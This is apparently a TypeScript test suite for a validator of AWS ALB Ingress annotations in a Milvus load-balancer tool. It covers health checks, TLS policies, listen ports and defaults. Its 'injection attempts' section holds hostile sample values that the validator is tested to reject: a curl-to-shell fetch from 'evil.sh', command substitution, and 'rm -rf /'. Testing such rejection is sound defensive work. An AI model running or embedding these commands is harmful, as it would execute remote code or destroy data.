import { describe, expect, it } from "vitest";
import {
  ALB_ANNOTATION_PREFIX,
  MILVUS_IDLE_TIMEOUT_SECONDS,
  allowedSslPolicies,
  documentedAlbAnnotations,
  httpsListenPorts,
  milvusL7Defaults,
  parseStringMap,
  validateAlbAnnotations,
  withMilvusL7Defaults,
} from "../../functions/lib/alb-annotations";
import { InvalidRequest } from "../../functions/lib/errors";
import { parseRequest } from "../../functions/lib/request";

const A = ALB_ANNOTATION_PREFIX;

/** The message for `suffix` when it is the only annotation (plus `others`), or undefined when accepted. */
function problem(suffix: string, value: unknown, others: Record<string, string> = {}): string | undefined {
  const issues = validateAlbAnnotations({ ...others, [A + suffix]: value });
  expect(issues.filter((i) => i.key !== A + suffix)).toEqual([]);
  return issues[0]?.message;
}

function accepts(suffix: string, values: unknown[], others?: Record<string, string>) {
  it.each(values)(`accepts ${suffix}: %j`, (value) => {
    expect(problem(suffix, value, others)).toBeUndefined();
  });
}

function rejects(suffix: string, values: unknown[], message: string, others?: Record<string, string>) {
  it.each(values)(`rejects ${suffix}: %j`, (value) => {
    expect(problem(suffix, value, others)).toContain(message);
  });
}

describe("keys", () => {
  it("must be alb.ingress.kubernetes.io/*", () => {
    for (const key of ["kubernetes.io/ingress.class", "nginx.ingress.kubernetes.io/rewrite-target", "alb.ingress.kubernetes.io"]) {
      expect(validateAlbAnnotations({ [key]: "x" })).toEqual([
        { key, message: "only alb.ingress.kubernetes.io/* annotations are accepted: milvus-l7 owns the rest of the Ingress" },
      ]);
    }
  });

  it("must be valid annotation keys", () => {
    for (const suffix of ["-bad", "bad-", "", "a b", `${"x".repeat(64)}`, "a/b"]) {
      expect(problem(suffix, "x")).toContain("is not a valid annotation key");
    }
  });

  it("must be documented by the controller", () => {
    expect(problem("foo", "bar")).toBe(
      "is not a documented AWS Load Balancer Controller Ingress annotation; see docs/guide/ingress/annotations.md",
    );
  });

  it("suggests the documented key for a typo", () => {
    expect(problem("healthcheck-interval", "10")).toContain("did you mean alb.ingress.kubernetes.io/healthcheck-interval-seconds?");
    expect(problem("helthcheck-path", "/a/b")).toContain("did you mean alb.ingress.kubernetes.io/healthcheck-path?");
    expect(problem("sucess-codes", "12")).toContain("did you mean alb.ingress.kubernetes.io/success-codes?");
  });

  it("does not accept undocumented controller internals", () => {
    expect(problem("dry-run-plan", "true")).toContain("is not a documented");
  });

  it.each([
    ["scheme", "internal", "is set by milvus-l7 from ingress.scheme; set ingress.scheme instead"],
    ["certificate-arn", "arn:aws:acm:us-east-2:123456789012:certificate/x", "is set by milvus-l7 to the certificate"],
    ["backend-protocol-version", "HTTP2", "is set by milvus-l7 to GRPC"],
    ["target-type", "instance", "is set by milvus-l7 to ip"],
    ["create-acm-cert", "true", "milvus-l7 manages the certificate"],
    ["acm-pca-arn", "arn:aws:acm-pca:us-east-2:123456789012:certificate-authority/x", "milvus-l7 manages the certificate"],
  ])("refuses %s, which milvus-l7 sets", (suffix, value, message) => {
    expect(problem(suffix, value)).toContain(message);
  });

  it("knows every documented annotation", () => {
    expect(documentedAlbAnnotations).toContain(`${A}listen-ports`);
    expect(documentedAlbAnnotations).toContain(`${A}actions.<action-name>`);
    for (const key of documentedAlbAnnotations.filter((k) => !k.includes("<"))) {
      const message = validateAlbAnnotations({ [key]: "x" })[0]?.message ?? "";
      expect(message, key).not.toContain("is not a documented");
    }
  });

  it("requires string values", () => {
    expect(problem("healthcheck-interval-seconds", 10)).toBe('must be a string (quote numbers and booleans, e.g. "10", "true")');
    expect(problem("shield-advanced-protection", true)).toContain("must be a string");
  });
});

describe("injection attempts", () => {
  rejects("auth-scope", ["openid $(curl evil.sh | sh)"], "must not contain shell substitution syntax");
  rejects("tags", ["Team=`id`"], "must not contain shell substitution syntax");
  rejects("load-balancer-attributes", [`access_logs.s3.prefix=$${"{"}HOME}`], "must not contain shell substitution syntax");
  rejects("group.name", ["milvus;rm -rf"], "must be lowercase letters, digits, '-' and '.'");
  rejects("tags", ["Team=ml;rm -rf /"], "tag value for \"Team\" must be at most 256 letters");

  it("reports control characters in values through the request schema", () => {
    const request = {
      cluster: { name: "milvus-eks" },
      milvus: { namespace: "milvus", service: "milvus-demo" },
      ingress: { host: "milvus-demo.milvus.io", annotations: { [`${A}group.name`]: "milvus\nmetadata:" } },
      certificate: { source: { secretsManager: { secretId: "milvus-tls" } } },
    };
    expect(() => parseRequest(request)).toThrow(InvalidRequest);
    try {
      parseRequest(request);
    } catch (error) {
      expect((error as InvalidRequest).issues).toEqual([
        { path: `ingress.annotations.${A}group.name`, message: "must not contain control characters (found U+000A)" },
      ]);
    }
  });
});

describe("listen-ports", () => {
  accepts("listen-ports", ['[{"HTTPS":443}]', '[{"HTTPS":8443},{"HTTPS":443}]']);
  accepts("listen-ports", ['[{"HTTP": 80}, {"HTTPS": 443}]'], { [`${A}ssl-redirect`]: "443" });
  rejects(
    "listen-ports",
    ['[{"HTTP": 80}, {"HTTPS": 443}]'],
    `lists an HTTP listener (80) without ${A}ssl-redirect: it would forward plaintext to Milvus's gRPC target group`,
  );
  rejects("listen-ports", ["HTTPS:443", "[{HTTPS:443}]", "443"], "must be a JSON list of {\"HTTPS\": port}");
  rejects("listen-ports", ["[]"], "the list is empty");
  rejects("listen-ports", ['[{"HTTP":80}]'], 'must include an HTTPS listener, e.g. [{"HTTPS":443}]');
  rejects("listen-ports", ['[{"TLS":443}]'], 'listen protocol must be HTTP or HTTPS, not "TLS"');
  rejects("listen-ports", ['[{"HTTPS":0}]', '[{"HTTPS":65536}]', '[{"HTTPS":"443"}]', '[{"HTTPS":44.3}]'], "listen port must be an integer from 1 to 65535");
  rejects("listen-ports", ['[{"HTTP":443},{"HTTPS":443}]'], "port 443 is listed twice");
});

describe("success-codes (GRPC target group)", () => {
  accepts("success-codes", ["0", "12", "0,12", "0-99", "0-5", "99"]);
  rejects("success-codes", ["200", "200-299", "100", "5-1", "0, 12", "", "ok"], "must be gRPC status codes from 0 to 99");
});

describe("health checks", () => {
  accepts("healthcheck-interval-seconds", ["6", "10", "300", "+30"]);
  rejects("healthcheck-interval-seconds", ["4", "301", "abc", "1.5", " 10"], "must be an integer from 5 to 300 seconds");
  rejects("healthcheck-interval-seconds", ["5"], "must be greater than healthcheck-timeout-seconds (5, the default)");

  accepts("healthcheck-timeout-seconds", ["2", "14"]);
  rejects("healthcheck-timeout-seconds", ["1", "121"], "must be an integer from 2 to 120 seconds");
  rejects("healthcheck-timeout-seconds", ["15"], "must be less than healthcheck-interval-seconds (15, the default)");
  rejects("healthcheck-timeout-seconds", ["30"], "must be less than healthcheck-interval-seconds (20)", {
    [`${A}healthcheck-interval-seconds`]: "20",
  });

  accepts("healthy-threshold-count", ["2", "10"]);
  rejects("healthy-threshold-count", ["1", "11", "two"], "must be an integer from 2 to 10");
  accepts("unhealthy-threshold-count", ["2", "10"]);
  rejects("unhealthy-threshold-count", ["1", "11"], "must be an integer from 2 to 10");

  accepts("healthcheck-protocol", ["HTTP", "HTTPS"]);
  rejects("healthcheck-protocol", ["TCP", "http", "GRPC"], "must be one of HTTP, HTTPS");

  accepts("healthcheck-path", ["/AWS.ALB/healthcheck", "/grpc.health.v1.Health/Check", "/milvus.proto.milvus.MilvusService/CheckHealth"]);
  rejects("healthcheck-path", ["/healthz", "/", "grpc.health.v1.Health/Check", "/a/b/c"], "must be a gRPC method path /package.Service/Method");

  accepts("healthcheck-port", ["traffic-port", "9091", "19530"]);
  rejects("healthcheck-port", ["milvus", "0", "70000"], "must be traffic-port or a port number from 1 to 65535");
});

describe("ssl-policy", () => {
  accepts("ssl-policy", ["ELBSecurityPolicy-TLS13-1-2-2021-06", "ELBSecurityPolicy-TLS13-1-3-2021-06", "ELBSecurityPolicy-TLS-1-2-Ext-2018-06", "ELBSecurityPolicy-TLS13-1-2-Res-PQ-2025-09"]);
  rejects("ssl-policy", ["ELBSecurityPolicy-2016-08", "ELBSecurityPolicy-TLS13-1-0-2021-06", "ELBSecurityPolicy-TLS-1-1-2017-01"], "allows TLS 1.0/1.1; milvus-l7 requires TLS 1.2 or later");
  rejects("ssl-policy", ["ELBSecurityPolicy-TLS13-1-2-2099-01", "tls1.2"], "must be an ELB security policy with TLS 1.2 or later");

  it("lists only TLS 1.2+ policies", () => {
    for (const policy of allowedSslPolicies) expect(policy).toMatch(/^ELBSecurityPolicy-(TLS13-1-[23]|TLS-1-2|FS-1-2)-/);
  });
});

describe("load-balancer-attributes", () => {
  accepts("load-balancer-attributes", [
    "idle_timeout.timeout_seconds=4000",
    "idle_timeout.timeout_seconds=1",
    "access_logs.s3.enabled=true,access_logs.s3.bucket=my-alb-logs,access_logs.s3.prefix=milvus",
    "routing.http2.enabled=true, deletion_protection.enabled=false",
    "routing.http.xff_header_processing.mode=remove",
  ]);
  rejects("load-balancer-attributes", ["idle_timeout.timeout_seconds=4001", "idle_timeout.timeout_seconds=0"], "idle_timeout.timeout_seconds must be an integer from 1 to 4000 seconds");
  rejects("load-balancer-attributes", ["routing.http2.enabled=false"], "must be true: Milvus clients speak gRPC, which needs HTTP/2");
  rejects("load-balancer-attributes", ["idle_timeout=300"], '"idle_timeout" is not an Application Load Balancer load balancer attribute; allowed:');
  rejects("load-balancer-attributes", ["idle_timeout.timeout_seconds", "=300", "a=1,b"], "must be a comma-separated list of key=value pairs");
  rejects("load-balancer-attributes", ["access_logs.s3.bucket=My_Bucket"], "access_logs.s3.bucket must be an S3 bucket name");
});

describe("target-group-attributes", () => {
  accepts("target-group-attributes", [
    "deregistration_delay.timeout_seconds=30",
    "load_balancing.algorithm.type=least_outstanding_requests",
    "stickiness.enabled=true,stickiness.type=lb_cookie,stickiness.lb_cookie.duration_seconds=60",
    "slow_start.duration_seconds=0",
  ]);
  rejects("target-group-attributes", ["deregistration_delay.timeout_seconds=3601"], "must be an integer from 0 to 3600 seconds");
  rejects("target-group-attributes", ["slow_start.duration_seconds=10"], "must be 0 (off) or an integer from 30 to 900 seconds");
  rejects("target-group-attributes", ["preserve_client_ip.enabled=true"], "is not an Application Load Balancer target group attribute");
});

describe("listeners and networking", () => {
  accepts("inbound-cidrs", ["10.0.0.0/16", "10.0.0.0/16, 192.168.0.0/24", "0.0.0.0/0,::/0", "2001:db8::/32", "::ffff:10.0.0.0/104"]);
  rejects("inbound-cidrs", ["10.0.0.0/33", "10.0.0.0", "256.0.0.0/8", "abc", "010.0.0.0/8", "2001:db8::/129", ","], "must be a comma-separated list of CIDR blocks");

  accepts("ssl-redirect", ["443"]);
  accepts("ssl-redirect", ["8443"], { [`${A}listen-ports`]: '[{"HTTP":80},{"HTTPS":8443}]' });
  rejects("ssl-redirect", ["80"], "must be one of the HTTPS ports in listen-ports; 80 is not", { [`${A}listen-ports`]: '[{"HTTP":80},{"HTTPS":443}]' });
  rejects("ssl-redirect", ["https"], "must be a port number");

  accepts("ip-address-type", ["ipv4", "dualstack", "dualstack-without-public-ipv4"]);
  rejects("ip-address-type", ["ipv6", "IPv4"], "must be one of ipv4, dualstack, dualstack-without-public-ipv4");

  accepts("subnets", ["subnet-0123456789abcdef0, subnet-0123abcd", "public-a,public-b"]);
  accepts("security-groups", ["sg-0123456789abcdef0", "milvus-alb"]);
  accepts("security-group-prefix-lists", ["pl-00000000, pl-11111111"]);
  rejects("security-group-prefix-lists", ["sg-00000000"], "managed prefix list IDs (pl-…)");
  accepts("wafv2-acl-arn", ["none", "arn:aws:wafv2:us-east-2:123456789012:regional/webacl/milvus/a1b2c3d4-5678-90ab-cdef-0123456789ab"]);
  rejects("wafv2-acl-arn", ["arn:aws:wafv2:us-east-1:123456789012:global/webacl/x/y"], "must be a regional WAFv2 web ACL ARN");
  accepts("load-balancer-name", ["milvus-demo", "a".repeat(32)]);
  rejects("load-balancer-name", ["a".repeat(33), "internal-milvus", "-milvus", "milvus_alb"], "must be 1-32 letters, digits and '-'");
  accepts("listener-attributes.HTTPS-443", ["routing.http.response.server.enabled=false"]);
  accepts("mutual-authentication", ['[{"port":443,"mode":"passthrough"}]', '[{"port":443,"mode":"verify","trustStore":"milvus-clients"}]']);
  rejects("mutual-authentication", ['[{"port":443,"mode":"verify"}]'], "needs a trustStore");
  rejects("mutual-authentication", ['[{"port":80,"mode":"passthrough"}]'], "must be one of the HTTPS ports in listen-ports");
});

describe("tags and groups", () => {
  accepts("tags", ["Team=ml,Environment=prod", "cost-center=42", "Name=milvus demo"]);
  rejects("tags", ["aws:createdBy=me"], "must not start with aws:");
  rejects("tags", ["elbv2.k8s.aws/cluster=other", "ingress.k8s.aws/stack=x"], "is reserved: the controller tracks its resources with it");
  rejects("tags", ["Team"], "must be a comma-separated list of key=value pairs");
  accepts("group.name", ["milvus", "milvus.team-a"]);
  rejects("group.name", ["Milvus", "milvus_", "x".repeat(64)], "must be lowercase letters, digits, '-' and '.'");
  accepts("group.order", ["-1000", "0", "1000"]);
  rejects("group.order", ["1001", "-1001", "first"], "must be an integer from -1000 to 1000");
});

describe("actions, conditions and transforms", () => {
  accepts("actions.response-503", ['{"type":"fixed-response","fixedResponseConfig":{"contentType":"text/plain","statusCode":"503"}}']);
  accepts("actions.redirect", ['{"type":"redirect","redirectConfig":{"protocol":"HTTPS","port":"443","statusCode":"HTTP_301"}}']);
  rejects("actions.response-503", ["{type: fixed-response}"], "must be a JSON object; it is not valid JSON");
  rejects("actions.response-503", ["[]"], "must be a JSON object");
  rejects("actions.response-503", ['{"type":"bogus"}'], 'whose "type" is forward, redirect or fixed-response');
  rejects("actions.response-503", ['{"type":"fixed-response"}'], "needs fixedResponseConfig");
  rejects("actions.forward", ['{"type":"forward"}'], "needs forwardConfig or targetGroupARN/targetGroupName");
  accepts("conditions.milvus-demo", ['[{"field":"http-header","httpHeaderConfig":{"httpHeaderName":"x-tenant","values":["a"]}}]']);
  rejects("conditions.milvus-demo", ['{"field":"http-header"}'], "must be a JSON array");
  rejects("conditions.milvus-demo", ['[{"field":"cookie"}]'], 'whose "field" is one of http-header');
  accepts("transforms.milvus-demo", ['[{"type":"host-header-rewrite","hostHeaderRewriteConfig":{"rewrites":[]}}]']);
  rejects("transforms.milvus-demo", ['[{"type":"body-rewrite"}]'], "url-rewrite or host-header-rewrite");
});

describe("other documented annotations", () => {
  accepts("shield-advanced-protection", ["true", "false", "1", "F"]);
  rejects("shield-advanced-protection", ["yes", "enabled"], "must be true or false");
  accepts("backend-protocol", ["HTTP", "HTTPS"]);
  rejects("backend-protocol", ["GRPC"], "must be one of HTTP, HTTPS");
  accepts("auth-type", ["none"]);
  rejects("auth-type", ["oidc", "cognito"], "which gRPC clients (the Milvus SDKs) cannot follow");
  rejects("auth-type", ["basic"], "must be none");
  rejects("auth-session-timeout", ["0", "604801"], "must be an integer from 1 to 604800 seconds");
  accepts("minimum-load-balancer-capacity", ["CapacityUnits=1000", "CapacityUnits=0"]);
  rejects("minimum-load-balancer-capacity", ["Units=1000", "CapacityUnits=-1"], "must be CapacityUnits=<non-negative integer>");
  accepts("target-control-port.milvus-demo.19530", ["3000"]);
  accepts("frontend-nlb-listener-port-mapping", ["80=443"]);
  rejects("frontend-nlb-listener-port-mapping", ["80=https"], "must be <nlb port>=<alb port>");
});

describe("milvus-l7 defaults", () => {
  it("are TLS 1.2/1.3, a gRPC-friendly idle timeout and HTTPS 443", () => {
    expect(milvusL7Defaults).toEqual({
      [`${A}ssl-policy`]: "ELBSecurityPolicy-TLS13-1-2-2021-06",
      [`${A}load-balancer-attributes`]: "idle_timeout.timeout_seconds=300",
      [`${A}listen-ports`]: '[{"HTTPS":443}]',
    });
    expect(MILVUS_IDLE_TIMEOUT_SECONDS).toBeGreaterThan(60);
  });

  it("pass their own validation", () => {
    expect(validateAlbAnnotations(milvusL7Defaults)).toEqual([]);
  });

  it("are applied when the request sets nothing", () => {
    expect(withMilvusL7Defaults({})).toEqual(milvusL7Defaults);
  });

  it("yield to the request's annotations", () => {
    const merged = withMilvusL7Defaults({
      [`${A}ssl-policy`]: "ELBSecurityPolicy-TLS13-1-3-2021-06",
      [`${A}load-balancer-attributes`]: "idle_timeout.timeout_seconds=900",
      [`${A}healthcheck-interval-seconds`]: "10",
    });
    expect(merged[`${A}ssl-policy`]).toBe("ELBSecurityPolicy-TLS13-1-3-2021-06");
    expect(merged[`${A}load-balancer-attributes`]).toBe("idle_timeout.timeout_seconds=900");
    expect(merged[`${A}healthcheck-interval-seconds`]).toBe("10");
  });

  it("keep the idle timeout when the request adds other load balancer attributes", () => {
    const requested = "access_logs.s3.enabled=true,access_logs.s3.bucket=my-alb-logs,access_logs.s3.prefix=a\\,b";
    const merged = withMilvusL7Defaults({ [`${A}load-balancer-attributes`]: requested });
    const value = merged[`${A}load-balancer-attributes`] as string;
    expect(parseStringMap(value)).toEqual({
      ok: true,
      map: {
        "idle_timeout.timeout_seconds": "300",
        "access_logs.s3.enabled": "true",
        "access_logs.s3.bucket": "my-alb-logs",
        "access_logs.s3.prefix": "a,b",
      },
    });
    expect(validateAlbAnnotations(merged)).toEqual([]);
  });

  it("tell verify-connection which HTTPS ports to try", () => {
    expect(httpsListenPorts(withMilvusL7Defaults({}))).toEqual([443]);
    expect(httpsListenPorts({ [`${A}listen-ports`]: '[{"HTTP":80},{"HTTPS":8443}]' })).toEqual([8443]);
  });
});

describe("parseStringMap (the controller's splitKeyValuePairs)", () => {
  it("trims, unescapes and keeps '=' inside values", () => {
    expect(parseStringMap(" a = 1 , b=x=y, c=p\\,q")).toEqual({ ok: true, map: { a: "1", b: "x=y", c: "p,q" } });
  });
  it("treats a comma followed by no more pairs as part of the value", () => {
    expect(parseStringMap("a=1,")).toEqual({ ok: true, map: { a: "1," } });
  });
  it("rejects pairs without a key or '='", () => {
    expect(parseStringMap("a=1,b")).toEqual({ ok: false });
    expect(parseStringMap("=1")).toEqual({ ok: false });
  });
});
